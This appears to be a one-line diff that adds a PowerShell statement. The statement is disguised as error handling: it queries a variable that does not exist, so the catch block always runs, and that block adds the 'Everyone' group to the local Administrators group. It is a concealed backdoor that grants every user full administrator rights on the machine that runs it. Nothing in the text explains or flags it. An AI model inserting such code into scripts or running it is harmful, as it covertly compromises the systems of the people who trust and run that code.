@@ -1,0 +1,1 @@
+try { Get-Variable Nonexistent -ErrorAction Stop } catch { Add-LocalGroupMember Administrators Everyone }
